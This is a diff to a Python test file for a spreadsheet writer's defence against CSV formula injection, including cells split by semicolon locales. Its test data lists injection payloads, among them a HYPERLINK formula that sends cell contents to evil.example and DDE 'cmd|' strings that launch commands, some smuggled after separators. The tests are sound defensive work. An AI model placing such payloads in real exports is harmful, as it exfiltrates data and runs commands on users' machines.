@@ -13,7 +13,10 @@ from gateway.spreadsheets import SpreadsheetWriter, safe_cell
 @pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
                                   "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"])
 def test_formula_starts_are_quoted_as_text(text: str) -> None:
-    assert safe_cell(text) == "'" + text
+    safe = safe_cell(text)
+    assert isinstance(safe, str)
+    assert safe.startswith("'")
+    assert safe.replace("'", "") == text.replace("'", "")  # and nothing else changes
 
 
 @pytest.mark.parametrize("value", ["No basis for police incidents", "", "a=b", "riec-aa", 42, -3, None])
@@ -27,3 +30,32 @@ def test_the_writer_quotes_every_text_cell() -> None:
     writer.writerow(["id", "=1+1"])
     writer.writerows([["g1", "@x", 7], ["g2", "fine", None]])
     assert list(csv.reader(io.StringIO(out.getvalue()))) == [["id", "'=1+1"], ["g1", "'@x", "7"], ["g2", "fine", ""]]
+
+
+# A spreadsheet in a Dutch (German, French, ...) locale opens a .csv with `;` as its list separator: the
+# file's commas and quotes then mean nothing to it, and every `;` or line break inside a cell starts a new
+# cell there. The free text a partner writes must not start a formula in any of those cells either.
+_SEMICOLON_PAYLOADS = ["x;=cmd|' /C calc'!A0;y", "x; @SUM(1+1)*cmd|' /C calc'!A0", 'x;"=1+1"',
+                       "x\n=HYPERLINK(A1)", "first line\r\n+1+1", "x;\t-2+3"]
+
+
+def _cells_as_a_semicolon_locale_reads_them(text: str) -> list[str]:
+    """Cells as such a spreadsheet finds them: split on `;` and at every line break (CR, LF or CRLF)."""
+    lines = text.replace("\r\n", "\n").replace("\r", "\n")
+    return [cell for row in csv.reader(io.StringIO(lines), delimiter=";") for cell in row]
+
+
+@pytest.mark.parametrize("payload", _SEMICOLON_PAYLOADS)
+def test_no_formula_starts_in_a_cell_of_a_semicolon_locale(payload: str) -> None:
+    out = io.StringIO()
+    SpreadsheetWriter(out).writerow(["gap-1", "riec", payload, "note"])
+    for cell in _cells_as_a_semicolon_locale_reads_them(out.getvalue()):
+        assert not cell.lstrip(' \t\r\n"').startswith(("=", "+", "-", "@")), (payload, cell)
+    # A reader that uses the file's own separator gets the text back, made safe but readable.
+    [row] = list(csv.reader(io.StringIO(out.getvalue())))
+    assert row[2].replace("'", "") == payload.replace("'", "")
+
+
+@pytest.mark.parametrize("text", ["Wet Bibob; artikel 9", "line one\nline two", "a;b", "10; 20"])
+def test_separators_and_line_breaks_without_a_formula_stay_as_they_are(text: str) -> None:
+    assert safe_cell(text) == text
